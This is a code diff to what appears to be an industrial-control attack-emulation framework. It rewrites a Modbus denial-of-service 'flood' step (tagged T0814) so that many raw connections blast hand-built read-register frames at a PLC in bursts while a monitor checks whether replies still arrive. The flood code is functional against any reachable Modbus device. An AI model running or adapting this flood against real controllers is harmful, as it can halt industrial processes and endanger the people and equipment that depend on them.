@@ -10,7 +10,7 @@ import asyncio
 from collections.abc import Awaitable, Callable
 from dataclasses import dataclass, field
 
-from devices.modbus import ModbusClient, Refusal, read_request
+from devices.modbus import ModbusClient, Refusal
 from devices.opcua import UaClient
 from devices.poller import checksum, checksum_address
 from devices.registers import Table
@@ -286,40 +286,66 @@ class Forger:
             payload[body + 2 * (count - 1) : body + 2 * count] = checksum(registers).to_bytes(2, "big")
 
 
+#: A flood sends its requests in bursts so many seconds apart, several in one segment, as flooding tools do.
+BURST = 0.02
+#: How often a flood looks whether it still gets through (s).
+LOOK = 10.0
+
+
+class _Hose(asyncio.Protocol):
+    """One connection of a flood: counts the bytes that come back and never waits for them."""
+
+    def __init__(self) -> None:
+        self.transport: asyncio.Transport | None = None
+        self.returned = 0
+
+    def connection_made(self, transport: asyncio.BaseTransport) -> None:
+        assert isinstance(transport, asyncio.Transport)
+        self.transport = transport
+
+    def connection_lost(self, exc: Exception | None) -> None:
+        self.transport = None
+
+    def data_received(self, data: bytes) -> None:
+        self.returned += len(data)
+
+
 async def flood(attack: Attack, step: Flood) -> None:
     """T0814: more requests than the PLC's processor has time for."""
     asset = attack.world.site.controllers()[step.plc]
     loop = attack.world.loop
     end = loop.time() + step.lasting
-    pause = step.connections / step.rate
-    answered = 0
+    # Read one input register: transaction, protocol 0, six more bytes, unit, function 4, address 0, count 1.
+    request = bytes((0, 1, 0, 0, 0, 6, asset.unit_id, 4, 0, 0, 0, 1))
+    each = step.rate * BURST / step.connections
+    hoses: list[_Hose] = []
 
     async def one(number: int) -> None:
-        nonlocal answered
-        await asyncio.sleep(number * pause / step.connections)
-        client = ModbusClient(asset.address, asset.port, unit=asset.unit_id, timeout=1.0)
-        waiting: set[asyncio.Task[None]] = set()
-
-        async def ask() -> None:
-            nonlocal answered
-            try:
-                await client.request(read_request(Table.INPUT, 0, 1))
-                answered += 1
-            except (TimeoutError, ConnectionError):
-                pass
-
+        await asyncio.sleep(number * BURST / step.connections)
+        owed = 0.0
         while loop.time() < end:
             try:
-                await client.connect()
-            except (TimeoutError, ConnectionError):
+                _, hose = await loop.create_connection(_Hose, asset.address, asset.port)
+            except OSError:
                 await asyncio.sleep(1.0)
                 continue
-            task = loop.create_task(ask())
-            waiting.add(task)
-            task.add_done_callback(waiting.discard)
-            await asyncio.sleep(pause)
-        client.close()
+            assert isinstance(hose, _Hose)
+            hoses.append(hose)
+            while hose.transport is not None and loop.time() < end:
+                owed += each
+                hose.transport.write(request * int(owed))
+                owed -= int(owed)
+                await asyncio.sleep(BURST)
+            if hose.transport is not None:
+                hose.transport.abort()
+
+    async def look() -> None:
+        before = 0
+        while loop.time() + LOOK <= end:
+            await asyncio.sleep(LOOK)
+            returned = sum(hose.returned for hose in hoses)
+            attack.note(step, "done" if returned > before else "refused", target=step.plc)
+            before = returned
 
     attack.note(step, "flooding", target=step.plc, rate=step.rate)
-    await asyncio.gather(*(one(number) for number in range(step.connections)))
-    attack.note(step, "done" if answered > step.rate else "refused", target=step.plc, answered=answered)
+    await asyncio.gather(look(), *(one(number) for number in range(step.connections)))
